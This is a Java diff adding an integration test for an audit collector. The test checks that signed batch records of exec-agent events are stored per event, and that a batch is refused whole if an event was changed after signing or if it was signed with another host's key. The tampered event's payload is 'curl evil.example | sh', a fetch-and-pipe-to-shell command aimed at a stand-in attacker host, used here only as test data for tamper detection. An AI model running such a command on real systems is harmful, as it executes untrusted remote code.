@@ -31,6 +31,7 @@ import io.gitcrq.model.chain.AuditSignature;
 import io.gitcrq.model.chain.ChainHash;
 import io.gitcrq.model.chain.ExportVerifier;
 import io.gitcrq.model.event.AgentToolCalled;
+import io.gitcrq.model.event.AuditBatchCaptured;
 import io.gitcrq.model.event.AuditCaptured;
 import io.gitcrq.model.event.BranchCreated;
 import io.gitcrq.model.event.BranchMerged;
@@ -320,6 +321,105 @@ class AuditCollectorIT {
         assertThat(offline.problems()).isEmpty();
         assertThat(offline.unchecked()).isEmpty();
         assertThat(offline.events()).isEqualTo(5);
+    }
+
+    @Test
+    void aHostsSignedBatchRecordIsStoredAsItsEventsAndOneWithAnEventChangedOrAnotherHostsKeyIsRefusedWhole() {
+        String crq = freshCrq();
+        String host = "batch-record-" + UUID.randomUUID();
+        String other = "batch-other-" + UUID.randomUUID();
+        registerHostKey(host);
+        KeyPair otherKey = Ed25519.generate();
+        register(other, otherKey);
+        Scrape before = scrape();
+
+        AuditBatchCaptured first = sendBatch(host, crq, 1, HOST_KEY, "a 1", "a 2", "a 3", "a 4");
+        // The next batch with one event changed after signing: none of its events is what the host signed.
+        AuditBatchCaptured signed = AuditSignature.signBatchRecord(
+                events(host, crq, "b 1", "b 2"), 5, HOST_KEY.getPrivate(), keyId(HOST_KEY));
+        List<AuditBatchCaptured.Entry> entries = new ArrayList<>(signed.events());
+        AuditBatchCaptured.Entry genuine = entries.get(1);
+        entries.set(
+                1,
+                new AuditBatchCaptured.Entry(
+                        genuine.eventId(), crq, "exec", genuine.occurredAt(), payload("curl evil.example | sh")));
+        AuditBatchCaptured changed =
+                new AuditBatchCaptured(host, signed.keyId(), signed.firstSeq(), signed.signature(), entries);
+        CloudEvent changedEnvelope = EventCodec.envelope("exec-agent/" + host, changed);
+        topics.send(Topics.AUDIT_EVENTS, host, EventCodec.toJson(changedEnvelope));
+        // Another host's key, claiming this host: refused too.
+        AuditBatchCaptured foreign = sendBatch(host, crq, 5, otherKey, "c 1");
+        AuditBatchCaptured last = sendBatch(host, crq, 5, HOST_KEY, "d 1", "d 2");
+
+        awaitTotal("host=" + host, 6);
+        assertThat(texts("SELECT payload->>'command' FROM audit_event WHERE host = '" + host + "' ORDER BY sequence"))
+                .containsExactly("a 1", "a 2", "a 3", "a 4", "d 1", "d 2");
+        List<String> numbered = new ArrayList<>();
+        for (AuditBatchCaptured.Entry e : first.events()) {
+            numbered.add(e.eventId() + " " + (numbered.size() + 1));
+        }
+        for (AuditBatchCaptured.Entry e : last.events()) {
+            numbered.add(e.eventId() + " " + (numbered.size() + 1));
+        }
+        assertThat(texts("SELECT event_id || ' ' || host_seq FROM audit_event WHERE host = '" + host
+                        + "' ORDER BY sequence"))
+                .as("each event under its own id, numbered from its batch's first number")
+                .containsExactlyElementsOf(numbered);
+        as("alice")
+                .get("/audit/verify?host=" + host)
+                .then()
+                .body("ok", equalTo(true))
+                .body("verified", equalTo(6));
+        // Each stored event carries its audit path, computed from the batch: the export is checked offline alone.
+        List<String> lines = as("alice")
+                .get("/audit/export?host=" + host)
+                .then()
+                .statusCode(200)
+                .extract()
+                .asString()
+                .lines()
+                .toList();
+        ExportVerifier.Result offline = new ExportVerifier(Map.of(host, HOST_KEY.getPublic()), null).verify(lines);
+        assertThat(offline.problems()).isEmpty();
+        assertThat(offline.unchecked()).isEmpty();
+        assertThat(offline.events()).isEqualTo(6);
+
+        // Each refused record dead-lettered once, each of its events refused, counted and recorded.
+        assertThat(operator.awaitAll(
+                        Topics.deadLetter("audit-collector"), v -> v.contains(changedEnvelope.id()), 1, WAIT))
+                .hasSize(1);
+        assertThat(operator.awaitAll(
+                        Topics.deadLetter("audit-collector"),
+                        v -> v.contains(foreign.events().get(0).eventId()),
+                        1,
+                        WAIT))
+                .hasSize(1);
+        JsonPath rejections = rejections();
+        for (AuditBatchCaptured.Entry e : changed.events()) {
+            assertThat(rejections.getString("latest.find { it.eventId == '" + e.eventId() + "' }.reason"))
+                    .contains("does not verify");
+        }
+        assertThat(rejections.getString("latest.find { it.eventId == '"
+                        + foreign.events().get(0).eventId() + "' }.reason"))
+                .contains("another host (" + other + ")");
+        assertRejectedMore(before, scrape(), "bad_signature", "foreign_key");
+    }
+
+    /** Events of {@code host} with these commands, a second apart. */
+    private static List<AuditCaptured> events(String host, String crq, String... commands) {
+        List<AuditCaptured> events = new ArrayList<>();
+        for (int i = 0; i < commands.length; i++) {
+            events.add(new AuditCaptured(host, crq, "exec", BASE.plusSeconds(i), payload(commands[i])));
+        }
+        return events;
+    }
+
+    /** A batch record as exec-agent sends it: numbered from {@code firstSeq}, signed with {@code key}. */
+    private AuditBatchCaptured sendBatch(String host, String crq, long firstSeq, KeyPair key, String... commands) {
+        AuditBatchCaptured batch =
+                AuditSignature.signBatchRecord(events(host, crq, commands), firstSeq, key.getPrivate(), keyId(key));
+        topics.send(Topics.AUDIT_EVENTS, host, EventCodec.toJson(EventCodec.envelope("exec-agent/" + host, batch)));
+        return batch;
     }
 
     @Test
